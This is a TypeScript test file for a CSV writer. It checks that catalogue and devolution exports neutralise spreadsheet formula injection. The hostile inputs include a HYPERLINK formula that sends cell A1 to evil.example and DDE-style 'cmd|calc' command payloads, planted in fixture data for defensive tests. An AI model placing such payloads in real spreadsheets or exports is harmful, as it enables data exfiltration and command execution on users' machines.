import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, csvCellValue, csvText } from '../../shared/csv/csv-writer.ts';
import { startTestServer, type TestServer } from '../helpers/test-server.ts';

/** Issue 13, finding 8: the anonymous catalogue and devolution downloads cannot carry a spreadsheet formula. */
const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '＝1+1'];

describe('csvCell', () => {
  it.each(HOSTILE)('neutralises %s and reads it back unchanged', (value) => {
    const cell = csvCell(value);
    expect(cell.replace(/^"/, '').startsWith("'")).toBe(true);
    const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
    expect(csvCellValue(unquoted)).toBe(value);
  });
  it('leaves numbers, plain text and an apostrophe before plain text alone', () => {
    expect(csvText([['a', -1, null, "'text", '违停 "占道"']])).toBe(`a,-1,,'text,"违停 ""占道"""\n`);
  });
});

let server: TestServer;
let dataDir: string;
beforeAll(async () => {
  dataDir = mkdtempSync(join(tmpdir(), 'gd-csv-'));
  cpSync('data/catalogue', join(dataDir, 'catalogue'), { recursive: true });
  cpSync('data/counties', join(dataDir, 'counties'), { recursive: true });
  const csvPath = join(dataDir, 'catalogue/matters.csv');
  const lines = readFileSync(csvPath, 'utf8').split('\n');
  // The name of the first matter becomes a formula (quoted: it holds commas and quotes).
  const cells = lines[1]!.split(',');
  cells[1] = `"${HOSTILE[0]!.replace(/"/g, '""')}"`;
  lines[1] = cells.join(',');
  writeFileSync(csvPath, lines.join('\n'));
  const countyPath = join(dataDir, 'counties/410923000000.json');
  const county = JSON.parse(readFileSync(countyPath, 'utf8')) as { devolution: { batches: Array<{ name: string; note?: string }> } };
  county.devolution.batches[0]!.name = '@SUM(1+1)*cmd|calc';
  county.devolution.batches[0]!.note = '-1+1';
  writeFileSync(countyPath, JSON.stringify(county));
  server = await startTestServer({ jurisdictionDir: dataDir, admission: false });
});
afterAll(async () => {
  await server?.close();
  rmSync(dataDir, { recursive: true, force: true });
});

describe('anonymous CSV downloads', () => {
  it('catalogue.csv neutralises a matter name that starts like a formula', async () => {
    const text = await (await fetch(`${server.url}/api/v1/exports/catalogue.csv`)).text();
    const line = text.split('\n')[1]!;
    expect(line).toContain(`"'${HOSTILE[0]!.replace(/"/g, '""')}"`);
    for (const row of text.split('\n')) for (const cell of row.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
  });

  it('devolution.csv neutralises batch names and notes', async () => {
    const text = await (await fetch(`${server.url}/api/v1/exports/devolution.csv?county=410923`)).text();
    expect(text).toContain("'@SUM(1+1)*cmd|calc");
    expect(text).toContain("'-1+1");
    for (const row of text.split('\n')) for (const cell of row.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
  });
});
